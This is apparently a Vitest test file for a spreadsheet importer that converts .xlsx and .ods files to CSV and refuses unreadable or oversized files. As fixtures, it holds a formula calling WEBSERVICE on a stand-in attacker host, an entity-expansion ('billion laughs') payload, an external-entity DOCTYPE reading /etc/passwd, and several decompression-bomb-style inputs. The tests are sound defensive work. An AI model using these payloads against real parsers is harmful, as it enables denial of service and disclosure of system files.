// Specification: §12.1, §12.7
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spreadsheetLimits } from '@parages/contracts/vocabulary/imports/spreadsheet-limits';
import { afterEach, describe, expect, it } from 'vitest';
import { odsOf, xlsxOf, xlsxParts } from '../../../../../../test/spreadsheets/sheet-files.ts';
import { zipOf } from '../../../../../../test/spreadsheets/zip-of.ts';
import { convertSpreadsheet } from './convert-spreadsheet.ts';

const folders: string[] = [];
afterEach(async () => {
  for (const folder of folders.splice(0)) await rm(folder, { recursive: true });
});

async function convert(file: Buffer): Promise<{ answer: object; table: string }> {
  const folder = await mkdtemp(join(tmpdir(), 'parages-sheet-'));
  folders.push(folder);
  const [path, tablePath] = [join(folder, 'sheet'), join(folder, 'table')];
  await writeFile(path, file);
  const answer = await convertSpreadsheet({ path, tablePath });
  return { answer, table: await readFile(tablePath, 'utf8').catch(() => '') };
}

const refusalOf = async (file: Buffer): Promise<unknown> => (await convert(file)).answer;

it('an .xlsx file is written as CSV: days, times, shared and rich texts, cached values of formulas, empty rows; its hidden sheet is not read', async () => {
  const { answer, table } = await convert(
    xlsxOf({
      strings:
        '<si><t>Titre</t></si><si><r><t>Bal </t></r><r><t>des quais</t></r><rPh><t>x</t></rPh></si>',
      rows: `<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="inlineStr"><is><t>Jour</t></is></c></row>
        <row r="4"><c r="A4" t="s"><v>1</v></c><c r="B4" s="1"><v>46399</v></c><c r="C4" s="2"><v>46399.854166667</v></c><c r="D4" s="3"><v>0.854166667</v></c></row>
        <row><c><v>12.5</v></c><c t="str"><f>"a"&amp;WEBSERVICE("http://evil.example")</f><v>calculé; "tel"</v></c><c t="b"><v>1</v></c><c t="e"><v>#N/A</v></c><c><v>3.3E+10</v></c></row>`,
    }),
  );
  expect(answer).toEqual({ format: 'xlsx' });
  expect(table).toBe(
    [
      'Titre;;Jour',
      '',
      '',
      'Bal des quais;2027-01-12;2027-01-12 20:30:00;20:30:00',
      '12.5;"calculé; ""tel""";oui;;33000000000',
      '',
    ].join('\r\n'),
  );
});

it('an .xlsx file may count its days from 1904', async () => {
  const { table } = await convert(
    xlsxOf({ date1904: true, rows: '<row r="1"><c r="A1" s="1"><v>44937</v></c></row>' }),
  );
  expect(table).toBe('2027-01-12\r\n');
});

it('an .ods file is written as CSV: days, times, lines of a text, repeated cells and rows; comments and hidden tables are not read', async () => {
  const { answer, table } = await convert(
    odsOf(
      `<table:table-row><table:table-cell office:value-type="string"><text:p>Titre</text:p></table:table-cell><table:table-cell table:number-columns-repeated="2"/><table:table-cell office:value-type="string"><office:annotation><text:p>secret</text:p></office:annotation><text:p>Jour</text:p></table:table-cell><table:table-cell table:number-columns-repeated="16380"/></table:table-row>
      <table:table-row table:number-rows-repeated="2"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>
      <table:table-row><table:table-cell office:value-type="string"><text:p>Bal<text:s text:c="2"/>des</text:p><text:p>quais</text:p></table:table-cell><table:table-cell office:value-type="date" office:date-value="2027-01-12"><text:p>12 janv. 27</text:p></table:table-cell><table:table-cell office:value-type="date" office:date-value="2027-01-12T20:30:00"/><table:table-cell office:value-type="time" office:time-value="PT20H30M00S"/><table:table-cell office:value-type="float" office:value="12.5"/></table:table-row>
      <table:table-row table:number-rows-repeated="1048572"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>`,
    ),
  );
  expect(answer).toEqual({ format: 'ods' });
  expect(table).toBe(
    [
      'Titre;;;Jour',
      '',
      '',
      '"Bal  des\nquais";2027-01-12;2027-01-12 20:30:00;20:30:00;12.5',
      '',
    ].join('\r\n'),
  );
});

const row = (cells: string): string => `<row r="1">${cells}</row>`;
const laughs = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>`;
const withPart = (name: string, change: object): Buffer =>
  zipOf(
    xlsxParts({ rows: row('<c r="A1"><v>1</v></c>') }).map((part) =>
      part.name === name ? { ...part, ...change } : part,
    ),
  );
const sheet = 'xl/worksheets/sheet2.xml';

describe('convertSpreadsheet refuses as unreadable', () => {
  it.each<[string, () => Buffer]>([
    ['bytes that are no archive', () => Buffer.from('PK\u0003\u0004 and the rest')],
    [
      'an archive without a workbook',
      () => zipOf([{ name: 'word/document.xml', content: '<x/>' }]),
    ],
    ['a truncated archive', () => xlsxOf({ rows: '' }).subarray(0, 400)],
    [
      'declared entities',
      () => xlsxOf({ before: laughs, rows: row('<c r="A1" t="str"><v>&b;</v></c>') }),
    ],
    [
      'an external entity of an .ods file',
      () => odsOf('', '<!DOCTYPE x SYSTEM "file:///etc/passwd">'),
    ],
    ['an unknown entity', () => xlsxOf({ rows: row('<c r="A1" t="str"><v>&eacute;</v></c>') })],
    ['an expanded size that is not the declared one', () => withPart(sheet, { declared: 10 })],
    ['an encrypted part', () => withPart(sheet, { flags: 1 })],
    [
      'two parts of one name',
      () => zipOf([...xlsxParts({ rows: '' }), ...xlsxParts({ rows: '' })]),
    ],
    [
      'bytes that are not UTF-8',
      () => withPart(sheet, { content: Buffer.from([0x3c, 0xff, 0xfe]) }),
    ],
    [
      'cells out of order',
      () => xlsxOf({ rows: row('<c r="B1"><v>1</v></c><c r="A1"><v>2</v></c>') }),
    ],
    ['rows out of order', () => xlsxOf({ rows: '<row r="2"/><row r="1"/>' })],
    ['deep elements', () => xlsxOf({ rows: '<a>'.repeat(100) + '</a>'.repeat(100) })],
    [
      'many attributes',
      () =>
        xlsxOf({ rows: `<row ${Array.from({ length: 200 }, (_, n) => `a${n}="1"`).join(' ')}/>` }),
    ],
    [
      'a repetition that is no number',
      () => odsOf('<table:table-row table:number-rows-repeated="-1"/>'),
    ],
  ])('%s', async (_, file) =>
    expect(await refusalOf(file())).toEqual({ refusal: 'import_sheet_unreadable' }),
  );
});

const cellOfOds = (attributes: string, text: string): string =>
  `<table:table-cell office:value-type="string" ${attributes}><text:p>${text}</text:p></table:table-cell>`;

describe('convertSpreadsheet refuses as too large, without expanding the file', () => {
  it.each<[string, () => Buffer]>([
    [
      'a part that declares more than the bound',
      () => withPart(sheet, { declared: spreadsheetLimits.maxExpandedBytes + 1 }),
    ],
    [
      'more parts than the bound',
      () =>
        zipOf(
          Array.from({ length: spreadsheetLimits.maxEntries + 1 }, (_, n) => ({
            name: `a${n}`,
            content: '',
          })),
        ),
    ],
    ['a cell in the 201st column', () => xlsxOf({ rows: row('<c r="GS1"><v>1</v></c>') })],
    [
      'a cell in the last row of a sheet',
      () => xlsxOf({ rows: '<row r="1048576"><c r="A1048576"><v>1</v></c></row>' }),
    ],
    [
      'a cell of a million characters',
      () => xlsxOf({ rows: row(`<c r="A1" t="str"><v>${'x'.repeat(1_000_000)}</v></c>`) }),
    ],
    [
      'a comment of a million characters',
      () => xlsxOf({ rows: `<!--${'a'.repeat(1_000_000)}-->` }),
    ],
    [
      'an attribute of a million characters',
      () => xlsxOf({ rows: `<row r="${'1'.repeat(1_000_000)}"/>` }),
    ],
    [
      'a filled row that is repeated a million times',
      () =>
        odsOf(
          `<table:table-row table:number-rows-repeated="1000000">${cellOfOds('', 'x')}</table:table-row>`,
        ),
    ],
    [
      'a filled cell that is repeated ten thousand times',
      () =>
        odsOf(
          `<table:table-row>${cellOfOds('table:number-columns-repeated="10000"', 'x')}</table:table-row>`,
        ),
    ],
    [
      'a long text that is repeated in many rows',
      () =>
        odsOf(
          `<table:table-row table:number-rows-repeated="90000">${cellOfOds('', 'x'.repeat(40_000))}</table:table-row>`,
        ),
    ],
    [
      'a million spaces in one element',
      () =>
        odsOf(`<table:table-row>${cellOfOds('', 'a<text:s text:c="1000000"/>')}</table:table-row>`),
    ],
  ])('%s', async (_, file) =>
    expect(await refusalOf(file())).toEqual({ refusal: 'import_sheet_too_large' }),
  );
});
